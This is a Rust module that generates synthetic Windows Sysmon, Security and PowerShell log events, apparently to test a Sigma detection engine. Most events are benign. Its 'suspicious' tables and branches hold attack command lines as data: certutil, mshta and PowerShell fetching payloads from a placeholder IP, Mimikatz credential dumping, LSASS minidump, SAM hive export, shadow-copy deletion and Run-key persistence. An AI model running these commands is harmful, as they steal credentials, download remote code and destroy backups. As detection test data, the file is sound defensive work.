//! What Windows writes: Sysmon, the Security log, PowerShell.

use serde_json::{Value as Json, json};

use super::Draw;
use crate::rsigma::{CATEGORY, PRODUCT, SERVICE};

const PROGRAMS: [(&str, &str, &str); 24] = [
    (
        r"C:\Windows\System32\svchost.exe",
        "svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        "CONHOST.EXE",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={} --mojo-platform-channel-handle={}"#,
    ),
    (
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        "msedge.exe",
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={} /prefetch:8"#,
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        "RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", r"taskhostw.exe {}"),
    (
        r"C:\Windows\System32\cmd.exe",
        "Cmd.Exe",
        r#"C:\Windows\system32\cmd.exe /c ""C:\Scripts\inventory.cmd" {}""#,
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "PowerShell.EXE",
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -File C:\Scripts\Check-Disk{}.ps1"#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        "Outlook.exe",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "WinWord.exe",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\report {}.docx""#,
    ),
    (r"C:\Windows\explorer.exe", "EXPLORER.EXE", r"C:\Windows\Explorer.EXE"),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        "SearchProtocolHost.exe",
        r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{}_ Global\UsGthrCtrlFltPipeMssGthrPipe{} 1 -2147483646"#,
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        "Wmiprvse.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        "backgroundTaskHost.exe",
        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{}.mca"#,
    ),
    (
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe",
        "MpCmdRun.exe",
        r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#,
    ),
    (r"C:\Program Files\Git\cmd\git.exe", "git.exe", "git.exe status --porcelain=v2 --branch {}"),
    (
        r"C:\Program Files\nodejs\node.exe",
        "node.exe",
        r#""C:\Program Files\nodejs\node.exe" C:\work\app{}\server.js --port 30{}"#,
    ),
    (r"C:\Windows\System32\dllhost.exe", "dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{}"),
    (r"C:\Windows\System32\msiexec.exe", "msiexec.exe", r"C:\Windows\system32\msiexec.exe /V"),
    (r"C:\Windows\System32\sc.exe", "sc.exe", "sc query wuauserv"),
    (r"C:\Windows\System32\ipconfig.exe", "ipconfig.exe", "ipconfig /all"),
    (r"C:\Windows\System32\schtasks.exe", "schtasks.exe", r"schtasks /query /tn \Backup\Nightly{}"),
    (
        r"C:\Windows\System32\rundll32.exe",
        "RUNDLL32.EXE",
        r"C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask",
    ),
    (r"C:\Program Files\7-Zip\7z.exe", "7z.exe", r"7z.exe a D:\backup\{}.7z C:\work"),
];
const SUSPICIOUS: [(&str, &str, &str); 8] = [
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "PowerShell.EXE",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        "CertUtil.exe",
        r"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe",
    ),
    (r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami /all"),
    (r"C:\Windows\System32\net.exe", "net.exe", r#"net group "domain admins" /domain"#),
    (
        r"C:\Windows\System32\mshta.exe",
        "MSHTA.EXE",
        r#"mshta.exe vbscript:Close(Execute("GetObject(""script:http://203.0.113.9/x.sct"")"))"#,
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        "RUNDLL32.EXE",
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full",
    ),
    (r"C:\Windows\System32\reg.exe", "reg.exe", r"reg save HKLM\SAM C:\Users\Public\sam.hiv"),
];
const PARENTS: [&str; 8] = [
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Program Files\Microsoft VS Code\Code.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Windows\System32\userinit.exe",
];
const USERS: [&str; 7] = [
    r"NT AUTHORITY\SYSTEM",
    r"CORP\jdoe",
    r"CORP\asmith",
    r"NT AUTHORITY\NETWORK SERVICE",
    r"CORP\svc-backup",
    r"CORP\mlee",
    r"CORP\rkhan",
];
const KEYS: [&str; 8] = [
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-{}\Sequence",
    r"HKU\S-1-5-21-{}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\MRUListEx",
    r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{}\DynamicInfo",
    r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
    r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{}\LeaseObtainedTime",
    r"HKU\.DEFAULT\Software\Microsoft\Office\16.0\Common\ClientTelemetry\Rules\{}",
    r"HKLM\SOFTWARE\Classes\CLSID\{}\InprocServer32\(Default)",
    r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\Connections\DefaultConnectionSettings",
];
const FILES: [&str; 8] = [
    r"C:\Windows\Temp\{}.tmp",
    r"C:\Users\jdoe\AppData\Local\Google\Chrome\User Data\Default\Cache\f_{}",
    r"C:\Windows\Prefetch\SVCHOST.EXE-{}.pf",
    r"C:\Users\asmith\AppData\Local\Microsoft\Office\16.0\WebServiceCache\{}.json",
    r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\{}.bin",
    r"C:\work\app\node_modules\{}\index.js",
    r"C:\Users\mlee\Downloads\invoice-{}.pdf",
    r"C:\Windows\System32\LogFiles\WMI\RtBackup\Etw{}.etl",
];
const LIBRARIES: [&str; 6] = [
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\bcryptprimitives.dll",
    r"C:\Windows\System32\wbem\fastprox.dll",
    r"C:\Windows\System32\clbcatq.dll",
    r"C:\Windows\System32\taskschd.dll",
    r"C:\Program Files\Microsoft Office\root\Office16\mso.dll",
];
const SITES: [&str; 7] = [
    "teams.microsoft.com",
    "outlook.office365.com",
    "ctldl.windowsupdate.com",
    "github.com",
    "cdn.jsdelivr.net",
    "files.corp.example",
    "telemetry.vendor.example",
];

fn filled(draw: &mut Draw, template: &str) -> String {
    let mut text = String::with_capacity(template.len() + 16);
    for (number, part) in template.split("{}").enumerate() {
        if number > 0 {
            text.push_str(&draw.hex(6));
        }
        text.push_str(part);
    }
    text
}

fn program(draw: &mut Draw) -> (&'static str, &'static str, &'static str) {
    draw.favourite(&PROGRAMS)
}

/// An event of Sysmon with what all of them have.
fn sysmon(draw: &mut Draw, number: usize, id: u64, category: &str, fields: Json) -> Json {
    let time = format!(
        "2026-05-{:02} {:02}:{:02}:{:02}.{:03}",
        1 + number / 86_400 % 28,
        number / 3_600 % 24,
        number / 60 % 60,
        number % 60,
        draw.below(1_000)
    );
    let mut event = json!({
        PRODUCT: "windows", CATEGORY: category, SERVICE: "sysmon",
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": id,
        "Computer": format!("ws-{:04}.corp.example", draw.below(400)), "UtcTime": time,
        "ProcessGuid": draw.guid(), "ProcessId": 4 * draw.below(8_000), "User": draw.one(&USERS), "RuleName": "-",
    });
    if let (Json::Object(event), Json::Object(fields)) = (&mut event, fields) {
        event.extend(fields);
    }
    event
}

pub(super) fn process_creation(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
    let (image, original, line) = if suspicious { draw.any(&SUSPICIOUS) } else { program(draw) };
    let parent = draw.one(&PARENTS);
    let fields = json!({
        "Image": image, "OriginalFileName": original, "CommandLine": filled(draw, line),
        "FileVersion": "10.0.19041.3996 (WinBuild.160101.0800)", "Description": original, "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation", "CurrentDirectory": r"C:\Windows\system32\", "LogonGuid": draw.guid(),
        "LogonId": format!("0x{}", draw.hex(6)), "TerminalSessionId": draw.below(3), "IntegrityLevel": draw.one(&["System", "Medium", "High"]),
        "Hashes": format!("MD5={},SHA256={},IMPHASH={}", draw.hex(32), draw.hex(64), draw.hex(32)),
        "ParentProcessGuid": draw.guid(), "ParentProcessId": 4 * draw.below(8_000), "ParentImage": parent,
        "ParentCommandLine": format!("{parent} {}", draw.one(&["", "-k netsvcs -p", "/c start", "--type=gpu-process"])), "ParentUser": draw.one(&USERS),
    });
    sysmon(draw, number, 1, "process_creation", fields)
}

pub(super) fn registry_set(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
    let key = if suspicious {
        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\updater"
    } else {
        draw.one(&KEYS)
    };
    let details = if suspicious {
        r"C:\Users\Public\a.exe".to_owned()
    } else {
        let template = draw.any(&["DWORD (0x00{})", "Binary Data", "QWORD (0x01dacc9d-0x{})", "(Empty)"]);
        filled(draw, template)
    };
    let image = program(draw).0;
    let fields = json!({"EventType": "SetValue", "Image": image, "TargetObject": filled(draw, key), "Details": details});
    sysmon(draw, number, 13, "registry_set", fields)
}

pub(super) fn network_connection(draw: &mut Draw, number: usize) -> Json {
    let outside = draw.below(3) > 0;
    let address = if outside { draw.outer_address() } else { draw.inner_address() };
    let image = program(draw).0;
    let fields = json!({
        "Image": image, "Protocol": draw.one(&["tcp", "udp"]), "Initiated": "true", "SourceIsIpv6": "false",
        "SourceIp": draw.inner_address(), "SourceHostname": "-", "SourcePort": 49_152 + draw.below(16_000), "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": address, "DestinationHostname": draw.one(&SITES),
        "DestinationPort": draw.any(&[443, 80, 53, 445, 389, 88, 8_080]), "DestinationPortName": "https",
    });
    sysmon(draw, number, 3, "network_connection", fields)
}

pub(super) fn file_event(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
    let file = if suspicious {
        r"C:\Users\jdoe\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\run{}.bat"
    } else {
        draw.one(&FILES)
    };
    let image = program(draw).0;
    let fields = json!({"Image": image, "TargetFilename": filled(draw, file), "CreationUtcTime": "2026-05-01 00:00:00.000"});
    sysmon(draw, number, 11, "file_event", fields)
}

pub(super) fn image_load(draw: &mut Draw, number: usize) -> Json {
    let image = program(draw).0;
    let fields = json!({
        "Image": image, "ImageLoaded": draw.one(&LIBRARIES), "FileVersion": "10.0.19041.1", "Description": "-", "Product": "-",
        "Company": "Microsoft Corporation", "OriginalFileName": "-", "Hashes": format!("SHA256={}", draw.hex(64)), "Signed": "true",
        "Signature": "Microsoft Windows", "SignatureStatus": "Valid",
    });
    sysmon(draw, number, 7, "image_load", fields)
}

pub(super) fn dns_query(draw: &mut Draw, number: usize) -> Json {
    let image = program(draw).0;
    let fields = json!({
        "Image": image, "QueryName": draw.one(&SITES), "QueryStatus": "0", "QueryResults": format!("::ffff:{};", draw.outer_address()),
    });
    sysmon(draw, number, 22, "dns_query", fields)
}

pub(super) fn logon(draw: &mut Draw, number: usize) -> Json {
    let failed = draw.below(8) == 0;
    let user = draw.one(&["jdoe", "asmith", "svc-backup", "mlee", "WS-0012$", "administrator"]);
    json!({
        PRODUCT: "windows", SERVICE: "security",
        "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "EventID": if failed { 4_625 } else { 4_624 },
        "Computer": format!("dc-{}.corp.example", draw.below(4)), "Keywords": "0x8020000000000000", "SubjectUserSid": "S-1-0-0",
        "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0", "TargetUserName": user, "TargetDomainName": "CORP",
        "TargetLogonId": format!("0x{}", draw.hex(6)), "LogonType": draw.any(&[3, 3, 3, 2, 5, 10]),
        "LogonProcessName": "Kerberos", "AuthenticationPackageName": draw.one(&["Kerberos", "NTLM", "Negotiate"]), "WorkstationName": "-",
        "LogonGuid": draw.guid(), "KeyLength": 0, "ProcessId": "0x0", "ProcessName": "-", "IpAddress": draw.inner_address(),
        "IpPort": 49_152 + draw.below(16_000), "EventRecordID": number,
    })
}

pub(super) fn script_block(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
    let text = if suspicious {
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1'); Invoke-Mimikatz -DumpCreds".to_owned()
    } else {
        filled(
            draw,
            "function Get-DiskReport{} { param($Name) Get-CimInstance Win32_LogicalDisk -Filter \"DriveType=3\" | Where-Object { $_.FreeSpace -lt 10GB } | Select-Object DeviceID, FreeSpace | Export-Csv -Path C:\\Reports\\disk-{}.csv -NoTypeInformation }",
        )
    };
    json!({
        PRODUCT: "windows", CATEGORY: "ps_script", SERVICE: "powershell",
        "Channel": "Microsoft-Windows-PowerShell/Operational", "Provider_Name": "Microsoft-Windows-PowerShell", "EventID": 4_104,
        "Computer": format!("ws-{:04}.corp.example", draw.below(400)), "ScriptBlockText": text, "ScriptBlockId": draw.guid(), "MessageNumber": 1,
        "MessageTotal": 1, "Path": r"C:\Scripts\Get-DiskReport.ps1", "EventRecordID": number,
    })
}
